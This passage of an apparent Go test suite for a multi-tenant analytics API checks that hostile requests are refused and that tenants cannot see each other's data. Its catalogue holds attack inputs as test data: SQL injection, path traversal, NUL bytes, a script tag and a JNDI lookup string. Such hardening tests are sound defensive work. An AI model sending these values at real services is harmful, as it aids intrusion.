	add("aggregate/malformed", "POST", ag, A, `{"from":"2026-10-01",`, 400, "invalid_json")
	add("aggregate/empty", "POST", ag, A, ``, 400, "invalid_json")
	add("aggregate/array", "POST", ag, A, `[]`, 400, "invalid_request")
	add("aggregate/from after to", "POST", ag, A, `{"from":"2026-10-02","to":"2026-10-01"}`, 400, "invalid_date")
	add("aggregate/from 0000-00-00", "POST", ag, A, `{"from":"0000-00-00","to":"2026-10-01"}`, 400, "invalid_date")
	add("aggregate/to 2026-02-30", "POST", ag, A, `{"from":"2026-02-01","to":"2026-02-30"}`, 400, "invalid_date")
	add("aggregate/100-year range", "POST", ag, A, `{"from":"1926-01-01","to":"2026-01-01"}`, 400, "invalid_date")
	add("aggregate/over three years", "POST", ag, A, `{"from":"2020-01-01","to":"2026-01-01"}`, 400, "invalid_date")
	add("aggregate/to in the future", "POST", ag, A, `{"from":"2026-10-01","to":"2099-01-01"}`, 400, "invalid_date")
	add("aggregate/from a number", "POST", ag, A, `{"from":20261001,"to":"2026-10-01"}`, 400, "invalid_request")
	add("aggregate/from injection", "POST", ag, A, `{"from":"' OR 1=1 --","to":"2026-10-01"}`, 400, "invalid_date")
	add("aggregate/unknown field", "POST", ag, A, `{"from":"2026-10-01","to":"2026-10-01","tenant":"other"}`, 400, "invalid_request")
	add("aggregate/missing dates", "POST", ag, A, `{}`, 400, "invalid_date")

	// --- /v1/admin/webhooks/{provider} and /reprocess ---
	aw := "/v1/admin/webhooks/"
	add("admin webhooks/GET no key", "GET", aw+"typeform", nil, ``, 401, "unauthorized")
	add("admin webhooks/GET read key", "GET", aw+"typeform", R, ``, 403, "forbidden")
	add("admin webhooks/GET unknown provider", "GET", aw+"acme", A, ``, 404, "not_found")
	add("admin webhooks/GET traversal provider", "GET", aw+"..%2F..%2Fconfig", A, ``, 404, "not_found")
	add("admin webhooks/GET provider typeform%00", "GET", aw+"typeform%00", A, ``, 404, "not_found")
	add("admin webhooks/GET provider <script>", "GET", aw+"%3Cscript%3E", A, ``, 404, "not_found")
	add("admin webhooks/PUT no key", "PUT", aw+"typeform", nil, `{"mapping":{}}`, 401, "unauthorized")
	add("admin webhooks/PUT write key", "PUT", aw+"typeform", W, `{"mapping":{}}`, 403, "forbidden")
	add("admin webhooks/PUT unknown provider", "PUT", aw+"acme", A, `{"mapping":{}}`, 404, "not_found")
	add("admin webhooks/PUT injection provider", "PUT", aw+"%24%7Bjndi%3Aldap%3A%2F%2Fx%7D", A, `{"mapping":{}}`, 404, "not_found")
	add("admin webhooks/PUT malformed", "PUT", aw+"typeform", A, `{"mapping":`, 400, "invalid_json")
	add("admin webhooks/PUT empty", "PUT", aw+"typeform", A, ``, 400, "invalid_json")
	add("admin webhooks/PUT unknown field", "PUT", aw+"typeform", A, `{"mapping":{},"tenant":"other"}`, 400, "invalid_request")
	add("admin webhooks/PUT mapping an array", "PUT", aw+"typeform", A, `{"mapping":[]}`, 400, "invalid_request")
	add("admin webhooks/PUT question type mood", "PUT", aw+"typeform", A, `{"mapping":{"questions":{"x":{"type":"mood"}}}}`, 400, "invalid_request")
	add("admin webhooks/PUT scale inverted", "PUT", aw+"typeform", A, `{"mapping":{"questions":{"x":{"type":"csat","scale_min":5,"scale_max":1}}}}`, 400, "invalid_request")
	add("admin webhooks/PUT secret too short", "PUT", aw+"typeform", A, `{"secret":"abc","mapping":{}}`, 400, "invalid_request")
	add("admin webhooks/PUT secret too long", "PUT", aw+"typeform", A, `{"secret":"`+strings.Repeat("s", 513)+`","mapping":{}}`, 400, "invalid_request")
	add("admin webhooks/PUT secret a number", "PUT", aw+"typeform", A, `{"secret":12345678,"mapping":{}}`, 400, "invalid_request")
	add("admin webhooks/PUT trailing data after a valid secret", "PUT", aw+"typeform", A, `{"secret":"attacker-secret-1","mapping":{}} trailing`, 400, "invalid_json")
	add("admin webhooks/PUT 10,000-level nesting", "PUT", aw+"typeform", A, `{"mapping":{"questions":`+nested(10000, "")+`}}`, 400, "invalid_json")
	add("admin webhooks/reprocess no key", "POST", aw+"typeform/reprocess", nil, ``, 401, "unauthorized")
	add("admin webhooks/reprocess read key", "POST", aw+"typeform/reprocess", R, ``, 403, "forbidden")
	add("admin webhooks/reprocess unknown provider", "POST", aw+"acme/reprocess", A, ``, 404, "not_found")
	add("admin webhooks/reprocess generic provider", "POST", aw+"survey/reprocess", A, ``, 404, "not_found")
	add("admin webhooks/reprocess traversal provider", "POST", aw+"..%2F..%2Fraw/reprocess", A, ``, 404, "not_found")

	// --- DELETE /v1/users/{id} and GET /v1/admin/erasures ---
	u := "/v1/users/"
	add("erase user/no key", "DELETE", u+"u1", nil, ``, 401, "unauthorized")
	add("erase user/write key", "DELETE", u+"u1", W, ``, 403, "forbidden")
	add("erase user/read key", "DELETE", u+"u1", R, ``, 403, "forbidden")
	add("erase user/unknown key", "DELETE", u+"u1", bearer("no-such-admin-key"), ``, 401, "unauthorized")
	add("erase user/NUL in id", "DELETE", u+"u1%00", A, ``, 400, "invalid_request")
	add("erase user/newline in id", "DELETE", u+"u1%0Au2", A, ``, 400, "invalid_request")
	add("erase user/invalid UTF-8 id", "DELETE", u+"%C3%28", A, ``, 400, "invalid_request")
	add("erase user/1,025-byte id", "DELETE", u+strings.Repeat("u", 1025), A, ``, 400, "invalid_request")
	add("erase user/no id", "DELETE", u, A, ``, 404, "")
	add("erase user/GET", "GET", u+"u1", A, ``, 404, "")
	add("erasures/no key", "GET", "/v1/admin/erasures", nil, ``, 401, "unauthorized")
	add("erasures/read key", "GET", "/v1/admin/erasures", R, ``, 403, "forbidden")
	add("erasures/DELETE", "DELETE", "/v1/admin/erasures", A, ``, 404, "")

	// --- routes that do not exist: API Gateway's own 404 ---
	add("router/DELETE batch", "DELETE", "/v1/batch", W, ``, 404, "")
	add("router/GET batch", "GET", "/v1/batch", W, ``, 404, "")
	add("router/PATCH config", "PATCH", "/v1/config", A, `{}`, 404, "")
	add("router/GET webhook", "GET", "/v1/webhooks/survey/demo", nil, ``, 404, "")
	add("router/GET aggregate", "GET", "/v1/admin/aggregate", A, ``, 404, "")
	add("router/unknown path", "GET", "/v1/nope", R, ``, 404, "")
	add("router/extra segment", "GET", "/v1/kpis/dau/extra?"+rng, R, ``, 404, "")
	add("router/webhook without tenant", "POST", "/v1/webhooks/survey", nil, `{}`, 404, "")
	add("router/HEAD config", "HEAD", "/v1/config", A, ``, 404, "")
	return c
}

// TestHostileInputs sends a catalogue of bad requests over every route:
// each gets a 4xx with api.md's error shape, and none changes stored data.
func TestHostileInputs(t *testing.T) {
	st := stacktest.Start(t)
	// Data already accepted, which no bad request may disturb.
	seed := `{"batch":[` + msg("seed") + `,{"type":"identify","userId":"u1","messageId":"seed-i","timestamp":"2026-10-01T09:00:00Z","traits":{"plan":"pro"}}]}`
	if r := do(t, http.MethodPost, st.URL+"/v1/batch", bearer(st.WriteKey), []byte(seed)); r.status != 200 {
		t.Fatalf("seed batch: %d %s", r.status, r.body)
	}
	if r := do(t, http.MethodPost, st.URL+"/v1/admin/aggregate", bearer(st.AdminKey), []byte(`{"from":"2026-10-01","to":"2026-10-01"}`)); r.status != 200 {
		t.Fatalf("seed aggregate: %d %s", r.status, r.body)
	}
	cases := hostileCatalogue(st)
	if len(cases) < 100 {
		t.Fatalf("catalogue has %d cases, want at least 100", len(cases))
	}
	seen := map[string]bool{}
	for _, tc := range cases {
		if seen[tc.name] {
			t.Fatalf("duplicate case name %q", tc.name)
		}
		seen[tc.name] = true
	}
	t.Logf("%d hostile requests", len(cases))
	before := snapshot(t, st)
	last := before
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			r := do(t, tc.method, st.URL+tc.path, tc.headers, tc.body)
			req := fmt.Sprintf("%s %s (body %d bytes: %.120q)", tc.method, tc.path, len(tc.body), tc.body)
			if r.status >= 500 {
				t.Errorf("%s: got a %d, never allowed for a bad request: %.300s", req, r.status, r.body)
			} else if r.status < 400 {
				t.Errorf("%s: got %d, want a refusal %d %s: %.300s", req, r.status, tc.status, tc.code, r.body)
			}
			// Which request changed data, if any, for a precise report.
			if now := snapshot(t, st); !cmp.Equal(now, last) {
				t.Errorf("%s changed stored data (-before +after):\n%.2000s", req, cmp.Diff(last, now))
				last = now
			}
			if r.status != tc.status {
				t.Errorf("%s: status %d, want %d: %.300s", req, r.status, tc.status, r.body)
			}
			switch {
			case tc.method == http.MethodHead:
				// No body on HEAD.
			case tc.code == "":
				if string(r.body) != routerNotFound {
					t.Errorf("%s: body %.300s, want the router's %s", req, r.body, routerNotFound)
				}
			default:
				if code := errorCodeOf(r); code != tc.code {
					t.Errorf("%s: error code %q, want %q (body %.300s)", req, code, tc.code, r.body)
				}
			}
		})
	}
	if diff := cmp.Diff(before, snapshot(t, st)); diff != "" {
		t.Errorf("the hostile catalogue changed stored data (-before +after):\n%s", diff)
	}
}

// errorCodeOf returns the code of api.md's error shape, or a description
// of why the body is not that shape.
func errorCodeOf(r reply) string {
	var e struct {
		Error *struct {
			Code    string `json:"code"`
			Message string `json:"message"`
		} `json:"error"`
	}
	if err := json.Unmarshal(r.body, &e); err != nil || e.Error == nil || e.Error.Code == "" || e.Error.Message == "" {
		return "<not the error shape>"
	}
	return e.Error.Code
}

// probeTenant is a tenant's keys as the probes use them.
type probeTenant struct {
	id                 string
	write, read, admin string
	webhookSecret      string
}

// TestTenantProbeMatrix probes every route with every kind of key, own and
// foreign, then checks that one tenant's answers never carry another's data.
func TestTenantProbeMatrix(t *testing.T) {
	st := stacktest.Start(t)
	ctx := context.Background()
	a := probeTenant{st.Tenant, st.WriteKey, st.ReadKey, st.AdminKey, st.WebhookSecret}
	b := probeTenant{"rival", "rival-write-key", "rival-read-key", "rival-admin-key", "rival-webhook-secret"}
	if err := st.Provision(ctx, devstack.Tenant{ID: b.id, WriteKey: tenant.Secret(b.write), ReadKey: tenant.Secret(b.read),
		AdminKey: tenant.Secret(b.admin), WebhookSecret: tenant.Secret(b.webhookSecret)}); err != nil {
		t.Fatal(err)
	}

	// Each tenant's data, with values only that tenant has.
	seedA := `{"batch":[
{"type":"identify","messageId":"a-i1","userId":"alpha-user-1","timestamp":"2026-10-01T08:00:00Z","traits":{"plan":"alpha-plan-secret","region":"ALPHA-REGION"}},
{"type":"identify","messageId":"a-i2","userId":"alpha-user-2","timestamp":"2026-10-01T08:00:00Z","traits":{"plan":"alpha-plan-secret","region":"ALPHA-REGION"}},
{"type":"identify","messageId":"a-i3","userId":"alpha-user-3","timestamp":"2026-10-01T08:00:00Z","traits":{"plan":"alpha-plan-other","region":"ALPHA-REGION"}},
{"type":"track","messageId":"a-t1","userId":"alpha-user-1","event":"Clicked","timestamp":"2026-10-01T09:00:00Z"},
{"type":"track","messageId":"a-t2","userId":"alpha-user-2","event":"Clicked","timestamp":"2026-10-01T09:00:00Z"},
{"type":"track","messageId":"a-t3","userId":"alpha-user-3","event":"Clicked","timestamp":"2026-10-01T09:00:00Z"}]}`
	seedB := `{"batch":[
{"type":"identify","messageId":"b-i1","userId":"bravo-user-1","timestamp":"2026-10-01T08:00:00Z","traits":{"plan":"bravo-plan","region":"BRAVO-REGION"}},
{"type":"track","messageId":"b-t1","userId":"bravo-user-1","event":"Clicked","timestamp":"2026-10-01T09:00:00Z"}]}`
	for _, s := range []struct {
		tn   probeTenant
		body string
	}{{a, seedA}, {b, seedB}} {
		if r := do(t, "POST", st.URL+"/v1/batch", bearer(s.tn.write), []byte(s.body)); r.status != 200 {
			t.Fatalf("seed %s: %d %s", s.tn.id, r.status, r.body)
		}
	}
	// A's survey answers: nine promoters; B: one detractor.
	now := time.Now()
	sendSurvey := func(tn probeTenant, id string, score int, respondent string) {
		body := []byte(fmt.Sprintf(`{"id":%q,"survey_id":"q4","type":"nps","score":%d,"respondent":%q,"submitted_at":"2026-10-01T10:00:00Z"}`, id, score, respondent))
		if r := do(t, "POST", st.URL+"/v1/webhooks/survey/"+tn.id, signGeneric(tn.webhookSecret, body, now), body); r.status != 200 {
			t.Fatalf("survey for %s: %d %s", tn.id, r.status, r.body)
		}
	}
	for i := range 9 {
		sendSurvey(a, fmt.Sprintf("alpha-r%d", i), 10, "alpha-user-1")
	}
	sendSurvey(b, "bravo-r1", 2, "bravo-user-1")
	// A's settings: a time zone and a Typeform mapping, with a kept delivery.
	if r := do(t, "PUT", st.URL+"/v1/config", bearer(a.admin), []byte(`{"timezone":"Europe/Lisbon","conversion_event":"Alpha Converted"}`)); r.status != 200 {
		t.Fatalf("A config: %d %s", r.status, r.body)
	}
	if r := do(t, "PUT", st.URL+"/v1/admin/webhooks/typeform", bearer(a.admin), []byte(`{"mapping":{"questions":{"alpha-question":{"type":"nps"}}}}`)); r.status != 200 {
		t.Fatalf("A typeform: %d %s", r.status, r.body)
	}
	unknown := []byte(`{"event_id":"alpha-unknown-event","event_type":"alpha_custom_event","form_response":{}}`)
	if r := do(t, "POST", st.URL+"/v1/webhooks/typeform/"+a.id, signTypeform(a.webhookSecret, unknown), unknown); r.status != 202 {
		t.Fatalf("A kept typeform delivery: %d %s", r.status, r.body)
	}
	for _, tn := range []probeTenant{a, b} {
		if r := do(t, "POST", st.URL+"/v1/admin/aggregate", bearer(tn.admin), []byte(`{"from":"2026-10-01","to":"2026-10-01"}`)); r.status != 200 {
			t.Fatalf("aggregate %s: %d %s", tn.id, r.status, r.body)
		}
	}

	// --- Route × key matrix ---
	type route struct {
		method, path, body string
		kind               string // write, read, admin, or "" for none needed
		ok                 int
	}
	rng := "?from=2026-10-01&to=2026-10-01"
	routes := []route{
		{"POST", "/v1/batch", `{"batch":[` + msg("probe-batch") + `]}`, "write", 200},
		{"POST", "/v1/track", `{"event":"Probe","userId":"probe-user","messageId":"probe-track","timestamp":"2026-10-01T11:00:00Z"}`, "write", 200},
		{"POST", "/v1/identify", `{"userId":"probe-user","messageId":"probe-identify","timestamp":"2026-10-01T11:00:00Z","traits":{"probe":true}}`, "write", 200},
		{"POST", "/v1/group", `{"userId":"probe-user","groupId":"probe-group","messageId":"probe-group","timestamp":"2026-10-01T11:00:00Z"}`, "write", 200},
		{"POST", "/v1/page", `{"userId":"probe-user","messageId":"probe-page","timestamp":"2026-10-01T11:00:00Z","name":"Home"}`, "write", 200},
		{"POST", "/v1/screen", `{"userId":"probe-user","messageId":"probe-screen","timestamp":"2026-10-01T11:00:00Z","name":"Home"}`, "write", 200},
		{"POST", "/v1/alias", `{"userId":"probe-user","previousId":"probe-anon","messageId":"probe-alias","timestamp":"2026-10-01T11:00:00Z"}`, "write", 200},
		{"GET", "/v1/kpis" + rng, ``, "read", 200},
		{"GET", "/v1/kpis/dau" + rng, ``, "read", 200},
		{"GET", "/v1/kpis/dau.csv" + rng, ``, "read", 200},
		{"GET", "/v1/kpis/nope" + rng, ``, "read", 400},
		{"GET", "/v1/openapi.json", ``, "", 200},
		{"GET", "/v1/config", ``, "admin", 200},
		{"PUT", "/v1/config", `{"session_timeout_minutes":30,"conversion_event":"Probe Converted"}`, "admin", 200},
		{"POST", "/v1/admin/aggregate", `{"from":"2026-10-01","to":"2026-10-01"}`, "admin", 200},
		{"POST", "/v1/admin/aggregate", `{"from":"2026-10-02","to":"2026-10-01"}`, "admin", 400},
		{"GET", "/v1/admin/webhooks/delighted", ``, "admin", 200},
		{"PUT", "/v1/admin/webhooks/delighted", `{"mapping":{}}`, "admin", 200},
		{"POST", "/v1/admin/webhooks/delighted/reprocess", ``, "admin", 200},
		{"DELETE", "/v1/users/probe-nobody", ``, "admin", 200},
		{"DELETE", "/v1/users/%00", ``, "admin", 400},
		{"GET", "/v1/admin/erasures", ``, "admin", 200},
	}
	type cred struct {
		name   string
		header map[string]string
		kind   string // write, read, admin; "" for none or unknown
	}
	creds := []cred{
		{"own write", bearer(a.write), "write"},
		{"own read", bearer(a.read), "read"},
		{"own admin", bearer(a.admin), "admin"},
		{"own read as basic", basicAuth(a.read), "read"},
		{"none", map[string]string{"Content-Type": "application/json"}, ""},
		{"unknown", bearer("rival-write-key-x"), ""},
		{"webhook secret as key", bearer(a.webhookSecret), ""},
		{"other tenant's write", bearer(b.write), "write"},
		{"other tenant's read", bearer(b.read), "read"},
		{"other tenant's admin", bearer(b.admin), "admin"},
	}
	probes := 0
	for _, rt := range routes {
		for _, c := range creds {
			want := rt.ok
			switch {
			case rt.kind == "":
			case c.kind == "":
				want = 401
			case c.kind != rt.kind:
				want = 403
			}
			probes++
			name := fmt.Sprintf("%s %s/%s", rt.method, rt.path, c.name)
			t.Run(name, func(t *testing.T) {
				r := do(t, rt.method, st.URL+rt.path, c.header, []byte(rt.body))
				if r.status != want {
					t.Errorf("%s %s with %s key: status %d, want %d: %.300s", rt.method, rt.path, c.name, r.status, want, r.body)
					return
				}
				if want >= 400 {
					code := errorCodeOf(r)
					if wantCode := map[int]string{401: "unauthorized", 403: "forbidden"}[want]; wantCode != "" && code != wantCode {
						t.Errorf("%s %s with %s key: code %q, want %q", rt.method, rt.path, c.name, code, wantCode)
					}
				}
			})
		}
	}

	// Webhooks: the path names the tenant; only that tenant's secret opens it.
	for _, path := range []probeTenant{a, b} {
		other := b
		if path.id == b.id {
			other = a
		}
		body := []byte(fmt.Sprintf(`{"id":"probe-%s","survey_id":"probe","type":"nps","score":8,"respondent":"probe-user","submitted_at":"2026-10-02T12:00:00Z"}`, path.id))
		tf := []byte(`{"event_id":"probe","event_type":"form_response","form_response":{}}`)
		for _, c := range []struct {
			name    string
			url     string
			headers map[string]string
			body    []byte
			want    int
		}{
			{"survey, own secret", "/v1/webhooks/survey/" + path.id, signGeneric(path.webhookSecret, body, now), body, 200},
			{"survey, other tenant's secret", "/v1/webhooks/survey/" + path.id, signGeneric(other.webhookSecret, body, now), body, 401},
			{"survey, no signature", "/v1/webhooks/survey/" + path.id, nil, body, 401},
			{"survey, own write key", "/v1/webhooks/survey/" + path.id, bearer(path.write), body, 401},
			{"survey, own read key", "/v1/webhooks/survey/" + path.id, bearer(path.read), body, 401},
			{"survey, own admin key", "/v1/webhooks/survey/" + path.id, bearer(path.admin), body, 401},
			{"survey, other tenant's admin key", "/v1/webhooks/survey/" + path.id, bearer(other.admin), body, 401},
			{"ticket, other tenant's secret", "/v1/webhooks/ticket/" + path.id, signGeneric(other.webhookSecret, body, now), body, 401},
			{"typeform, other tenant's secret", "/v1/webhooks/typeform/" + path.id, signTypeform(other.webhookSecret, tf), tf, 401},
			{"typeform, no signature", "/v1/webhooks/typeform/" + path.id, nil, tf, 401},
			{"freshdesk, other tenant's token", "/v1/webhooks/freshdesk/" + path.id, map[string]string{webhook.FreshdeskTokenHeader: other.webhookSecret}, []byte(`{}`), 401},
			{"HEAD", "/v1/webhooks/survey/" + path.id, nil, nil, 200},
		} {
			probes++
			method := "POST"
			if c.name == "HEAD" {
				method = "HEAD"
			}
			t.Run("webhook "+path.id+"/"+c.name, func(t *testing.T) {
				r := do(t, method, st.URL+c.url, c.headers, c.body)
				if r.status != c.want {
					t.Errorf("%s %s (%s): status %d, want %d: %.300s", method, c.url, c.name, r.status, c.want, r.body)
				} else if c.want == 401 && errorCodeOf(r) != "unauthorized" {
					t.Errorf("%s %s (%s): body %.300s, want code unauthorized", method, c.url, c.name, r.body)
				}
			})
		}
	}
	t.Logf("%d route × key probes", probes)

	// --- Data-level probes: B's keys never see A's data ---
	alphaMarks := []string{"alpha-user", "alpha-plan", "ALPHA-REGION", "alpha-question", "alpha-unknown-event", "alpha_custom_event", "Europe/Lisbon", "Alpha Converted", "alpha-r"}
	noAlpha := func(t *testing.T, what string, body []byte) {
		t.Helper()
		for _, m := range alphaMarks {
			if strings.Contains(string(body), m) {
				t.Errorf("%s with tenant B's key shows tenant A's %q: %.500s", what, m, body)
			}
		}
	}
	value := func(t *testing.T, body []byte) float64 {
		t.Helper()
		var v struct {
			Value *float64 `json:"value"`
		}
		if err := json.Unmarshal(body, &v); err != nil {
			t.Fatalf("answer %s: %v", body, err)
		}
		if v.Value == nil {
			return 0
		}
		return *v.Value
	}
	get := func(t *testing.T, key, path string) []byte {
		t.Helper()
		r := do(t, "GET", st.URL+path, bearer(key), nil)
		if r.status != 200 {
			t.Fatalf("GET %s: %d %s", path, r.status, r.body)
		}
		return r.body
	}
	// The probes mean something: A's own key does see A's values.
	if body := get(t, a.read, "/v1/kpis/dau"+rng+"&breakdown=plan"); !strings.Contains(string(body), "alpha-plan-secret") {
		t.Fatalf("A's own breakdown by plan lacks its plan: %s", body)
	}
	// Re-aggregate after the matrix's probe events, then read.
	for _, tn := range []probeTenant{a, b} {
		if r := do(t, "POST", st.URL+"/v1/admin/aggregate", bearer(tn.admin), []byte(`{"from":"2026-10-01","to":"2026-10-01"}`)); r.status != 200 {
			t.Fatalf("aggregate %s: %d %s", tn.id, r.status, r.body)
		}
	}
	dauA := value(t, get(t, a.read, "/v1/kpis/dau"+rng))
	dauB := value(t, get(t, b.read, "/v1/kpis/dau"+rng))
	if dauA <= dauB {
		t.Errorf("dau A = %v, B = %v: want A's three users to make A's count larger than B's", dauA, dauB)
	}
	for _, p := range []struct{ name, path string }{
		{"dau", "/v1/kpis/dau" + rng},
		{"dau by plan", "/v1/kpis/dau" + rng + "&breakdown=plan"},
		{"dau by region", "/v1/kpis/dau" + rng + "&breakdown=region"},
		{"dau filtered on A's plan", "/v1/kpis/dau" + rng + "&filter=plan:alpha-plan-secret"},
		{"dau filtered on A's region by week", "/v1/kpis/dau" + rng + "&filter=region:ALPHA-REGION&interval=week"},
		{"nps", "/v1/kpis/nps" + rng},
		{"nps by plan", "/v1/kpis/nps" + rng + "&breakdown=plan"},
		{"dau CSV by plan", "/v1/kpis/dau.csv" + rng + "&breakdown=plan"},
		{"dau CSV filtered on A's plan", "/v1/kpis/dau.csv" + rng + "&filter=plan:alpha-plan-secret&interval=day"},
		{"overview", "/v1/kpis" + rng},
	} {
		t.Run("B reads/"+p.name, func(t *testing.T) {
			body := get(t, b.read, p.path)
			noAlpha(t, "GET "+p.path, body)
			if strings.Contains(p.path, "filter=plan:alpha") && !strings.Contains(p.path, ".csv") {
				if v := value(t, body); v != 0 {
					t.Errorf("GET %s with B's key: value %v, want 0 (B has no user on A's plan): %s", p.path, v, body)
				}
			}
		})
	}
	t.Run("B reads/nps is B's own", func(t *testing.T) {
		// B: one detractor (-100); A: nine promoters (100).
		if v := value(t, get(t, b.read, "/v1/kpis/nps"+rng)); v != -100 {
			t.Errorf("B's nps = %v, want -100 (its one detractor only)", v)
		}
		if v := value(t, get(t, a.read, "/v1/kpis/nps"+rng)); v != 100 {
			t.Errorf("A's nps = %v, want 100 (its promoters only)", v)
		}
	})
	t.Run("B admin/erasures are B's own", func(t *testing.T) {
		// Both tenants' admins erased probe-nobody in the matrix.
		body := get(t, b.admin, "/v1/admin/erasures")
		if !strings.Contains(string(body), erase.Subject(b.id, "probe-nobody")) || strings.Contains(string(body), erase.Subject(a.id, "probe-nobody")) {
			t.Errorf("B's erasures = %s, want B's own record and not A's", body)
		}
	})
	t.Run("B admin/config is B's own", func(t *testing.T) {
		body := get(t, b.admin, "/v1/config")
		noAlpha(t, "GET /v1/config", body)
		if !strings.Contains(string(body), `"timezone":"UTC"`) {
			t.Errorf("B's config = %s, want its own UTC time zone", body)
		}
	})
	t.Run("B admin/webhook settings are B's own", func(t *testing.T) {
		body := get(t, b.admin, "/v1/admin/webhooks/typeform")
		noAlpha(t, "GET /v1/admin/webhooks/typeform", body)
		var o struct {
			Kept []json.RawMessage `json:"kept"`
		}
		if err := json.Unmarshal(body, &o); err != nil || len(o.Kept) != 0 {
			t.Errorf("B's typeform settings = %s, want no kept delivery", body)
		}
		r := do(t, "POST", st.URL+"/v1/admin/webhooks/typeform/reprocess", bearer(b.admin), nil)
		if r.status != 200 || !strings.Contains(string(r.body), `"processed":0`) || !strings.Contains(string(r.body), `"still_kept":0`) {
			t.Errorf("B reprocesses typeform: %d %s, want nothing processed or kept", r.status, r.body)
		}
		// A's kept delivery is still there for A.
		if body := get(t, a.admin, "/v1/admin/webhooks/typeform"); !strings.Contains(string(body), "alpha-question") || strings.Count(string(body), `"reason"`) != 1 {
			t.Errorf("A's typeform settings after B's probes = %s, want its mapping and one kept delivery", body)
		}
	})
}
